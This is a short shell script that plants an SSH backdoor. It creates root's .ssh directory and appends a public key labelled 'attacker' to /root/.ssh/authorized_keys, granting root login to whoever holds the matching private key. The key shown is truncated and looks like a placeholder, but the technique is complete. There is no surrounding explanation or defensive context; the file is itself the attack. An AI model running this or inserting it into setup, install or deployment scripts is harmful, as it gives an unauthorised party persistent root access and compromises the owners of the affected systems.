#!/bin/sh
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3Nz attacker" >> /root/.ssh/authorized_keys
